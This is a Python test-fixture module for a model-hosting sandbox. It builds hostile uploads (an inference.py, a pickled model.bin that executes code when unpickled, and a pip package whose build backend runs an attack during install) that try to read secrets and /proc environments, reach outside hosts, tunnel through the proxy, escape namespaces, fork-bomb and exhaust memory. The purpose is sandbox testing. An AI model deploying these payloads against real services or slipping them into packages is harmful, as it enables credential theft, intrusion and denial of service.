"""Hostile uploads: the same attacks carried by an inference.py, a pickled model.bin
and a package whose in-tree build backend runs them while pip installs it.

ATTACK is the source of `attack(targets) -> report`: every attempt records what
it got ("blocked: <why>" or what leaked), so the tests assert on what the
uploaded code itself saw. It runs inside the sandbox; it may use only the
standard library.
"""

import io
import json
import os
import tarfile
import textwrap

from .helpers import make_zip

ATTACK = r'''
def attack(targets):
    import ctypes, os, socket, subprocess, sys, time
    report = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}

    def attempt(name, action):
        try:
            report[name] = "LEAKED: " + repr(action())[:300]
        except BaseException as exc:
            report[name] = f"blocked: {type(exc).__name__}: {exc}"[:300]

    def read(path):
        with open(path, "rb") as f:
            return f.read(200)

    def write(path):
        with open(path, "w") as f:
            f.write("pwned")
        return path

    attempt("read_secret", lambda: read(targets["secret"]))
    attempt("read_database", lambda: read(targets["database"]))
    attempt("list_data_dir", lambda: os.listdir(targets["data_dir"]))
    attempt("read_other_model", lambda: read(targets["other_model_file"]))
    attempt("read_service_code", lambda: read(targets["service_code_file"]))
    attempt("write_data_dir", lambda: write(os.path.join(targets["data_dir"], "pwned")))
    attempt("write_service_code", lambda: write(targets["service_code_write"]))
    attempt("write_own_model_files", lambda: write("/model/pwned"))
    report["environ"] = dict(os.environ)
    environs = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                environs[pid] = read(f"/proc/{pid}/environ").decode(errors="replace")
            except OSError as exc:
                environs[pid] = f"blocked: {exc}"
    report["proc_environs"] = environs

    def connect(host, port):
        with socket.create_connection((host, port), timeout=3) as s:
            return f"connected to {host}:{port}"

    attempt("connect_service", lambda: connect("127.0.0.1", targets["service_port"]))
    attempt("connect_outside", lambda: connect(targets["outside_host"], targets["outside_port"]))
    proxy = os.environ.get("HTTPS_PROXY")
    if proxy:  # an install's way to the package index: try to go elsewhere through it
        def through_proxy(host, port):
            p_host, p_port = proxy.rsplit("/", 1)[1].split(":")
            with socket.create_connection((p_host, int(p_port)), timeout=5) as s:
                s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
                answer = s.recv(200).decode(errors="replace")
                if " 200 " in answer.split("\r\n")[0]:
                    return "tunnel open: " + answer
                raise PermissionError(answer.split("\r\n")[0])
        attempt("proxy_to_service", lambda: through_proxy("127.0.0.1", targets["service_port"]))
        attempt("proxy_to_outside", lambda: through_proxy(targets["outside_host"], targets["outside_port"]))

    libc = ctypes.CDLL(None, use_errno=True)
    def syscall(result):
        if result != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "succeeded"
    attempt("unshare_user_namespace", lambda: syscall(libc.unshare(0x10000000)))
    attempt("mount_tmpfs", lambda: syscall(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    attempt("ptrace_attach_pid_1", lambda: syscall(libc.ptrace(16, 1, 0, 0)))
    with open("/proc/self/status") as f:
        status = f.read()
    report["capabilities"] = [line for line in status.splitlines() if line.startswith("Cap")]
    report["no_new_privs"] = [line for line in status.splitlines() if line.startswith("NoNewPrivs")]

    children = []
    for _ in range(targets["fork_attempts"]):
        try:
            children.append(subprocess.Popen(["sleep", "30"]))
        except OSError as exc:
            report["fork_stopped_by"] = f"{type(exc).__name__}: {exc}"
            break
    report["forks"] = len(children)
    for child in children:
        child.kill()
        child.wait()

    # A process that leaves its group and session, meant to outlive the model.
    leftover = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(100000)", targets["marker"]],
                                start_new_session=True, stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    report["leftover_pid_inside"] = leftover.pid
    return report
'''


def inference_source(targets: dict) -> str:
    return ATTACK + textwrap.dedent(f"""
        TARGETS = {targets!r}

        def load_model(model_dir):
            return attack(TARGETS)

        def call_model(report, task_input, task):
            return report
        """)


def pickle_bytes(targets: dict) -> bytes:
    """A model.bin whose unpickling runs the attack and yields a callable that answers its report."""
    source = ATTACK + f"\nREPORT = attack({targets!r})\nmodel = lambda task_input, task: REPORT\n"

    class Payload:
        def __reduce__(self):
            return eval, (f"(lambda ns: (exec({source!r}, ns), ns['model'])[1])({{}})",)

    import pickle

    return pickle.dumps(Payload())


def inference_zip(targets: dict) -> bytes:
    return make_zip({"inference.py": inference_source(targets),
                     "config.json": json.dumps({"description": "hostile", "tasks": ["custom"]})})


def pickle_zip(targets: dict) -> bytes:
    return make_zip({"model.bin": pickle_bytes(targets),
                     "config.json": json.dumps({"description": "hostile", "tasks": ["custom"]})})


BACKEND = r'''
import base64, hashlib, json, os, zipfile

NAME, VERSION = "hostile_pkg", "0.1"
DIST = f"{NAME}-{VERSION}.dist-info"


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = attack(TARGETS)  # runs while pip installs the package
    files = {
        f"{NAME}/__init__.py": "import json, os\nREPORT = json.load(open(os.path.join(os.path.dirname(__file__), 'report.json')))\n",
        f"{NAME}/report.json": json.dumps(report),
        f"{DIST}/METADATA": f"Metadata-Version: 2.1\nName: hostile-pkg\nVersion: {VERSION}\n",
        f"{DIST}/WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            wheel.writestr(path, data)
            record.append(f"{path},sha256={digest},{len(data)}")
        record.append(f"{DIST}/RECORD,,")
        wheel.writestr(f"{DIST}/RECORD", "\n".join(record) + "\n")
    return name
'''


def hostile_sdist(targets: dict) -> bytes:
    """hostile_pkg-0.1.tar.gz: a source distribution whose build backend is its own code."""
    root = "hostile_pkg-0.1"
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
                          '[project]\nname = "hostile-pkg"\nversion = "0.1"\n',
        "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-pkg\nVersion: 0.1\n",
        "backend.py": ATTACK + f"\nTARGETS = {targets!r}\n" + BACKEND,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def package_zip() -> bytes:
    """A model that requires the hostile package and answers what its build saw."""
    code = "import hostile_pkg\n\ndef load_model(model_dir):\n    return None\n\n" \
           "def call_model(model, task_input, task):\n    return hostile_pkg.REPORT\n"
    return make_zip({"inference.py": code, "requirements.txt": "hostile-pkg==0.1\n",
                     "config.json": json.dumps({"description": "hostile", "tasks": ["custom"]})})


def processes_with(marker: str) -> list[int]:
    """Host PIDs of processes whose command line holds the marker."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                if marker.encode() in cmdline.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


# --- Models that attack the service's resources rather than its walls -------------

# Every such model answers the build's sample like an honest one ({"ok": true});
# the attack is chosen by the request. `_protocol` finds the worker's own reply
# channel (user_worker.py's `protocol`) in the calling frames, as an attacker who
# read the worker script would: through it a model can answer a request and then
# stop reading its input, or write what is not the protocol.
RESOURCE_ATTACKS = r'''
import ctypes, os, sys, time

def _protocol():
    frame = sys._getframe()
    while frame is not None:
        if "protocol" in frame.f_locals:
            return frame.f_locals["protocol"]
        frame = frame.f_back
    raise RuntimeError("no protocol channel found")

def _hold_memfd(megabytes):
    fd = os.memfd_create("hog")
    chunk = b"x" * (8 << 20)
    for _ in range(megabytes // 8):
        os.write(fd, chunk)
    return fd

def _hold_shm(megabytes):
    # Segments of 64 MiB, each attached, filled and detached again: they stay
    # (until removed, or their IPC namespace ends) while the address space,
    # all RLIMIT_AS counts, stays small.
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    piece = 64 << 20
    segments = []
    for _ in range(megabytes // 64):
        segment = libc.shmget(0, ctypes.c_size_t(piece), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if segment < 0:
            raise OSError(ctypes.get_errno(), "shmget: " + os.strerror(ctypes.get_errno()))
        address = libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat: " + os.strerror(ctypes.get_errno()))
        ctypes.memset(address, 1, piece)  # touch every page: only then is it memory
        libc.shmdt(ctypes.c_void_p(address))
        segments.append(segment)
    return len(segments)

def _try(action):
    try:
        return "held: " + repr(action())
    except OSError as exc:
        return f"refused: {type(exc).__name__}: errno {exc.errno}: {exc}"

def _fork_until_refused(attempts):
    children, refused = [], None
    for _ in range(attempts):
        try:
            pid = os.fork()
        except OSError as exc:
            refused = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children.append(pid)
    return {"forks": len(children), "refused": refused}

def load_model(model_dir):
    return None

def call_model(model, task_input, task):
    attack = task_input.get("attack")
    if attack == "answer-then-stop-reading":  # the next request finds nobody reading
        protocol = _protocol()
        protocol.write('{"output": {"ok": true}}\n')
        protocol.flush()
        time.sleep(3600)
    if attack == "garbage-line":
        _protocol().write("this is not json\n")
        _protocol().flush()
        time.sleep(3600)
    if attack == "garbage-no-newline":
        _protocol().write("garbage without an end")
        _protocol().flush()
        time.sleep(3600)
    if attack == "unfinished-answer":
        _protocol().write('{"output": "never finis')
        _protocol().flush()
        time.sleep(3600)
    if attack == "memfd":
        return {"memfd": _try(lambda: _hold_memfd(task_input["mb"]))}
    if attack == "shm":
        return {"shm": _try(lambda: _hold_shm(task_input["mb"]))}
    if attack == "fork-bomb":
        return _fork_until_refused(task_input["attempts"])
    return {"ok": True, "pid": os.getpid()}
'''


def resource_attacks_zip() -> bytes:
    return make_zip({"inference.py": RESOURCE_ATTACKS,
                     "config.json": json.dumps({"description": "hostile", "tasks": ["custom"]})})
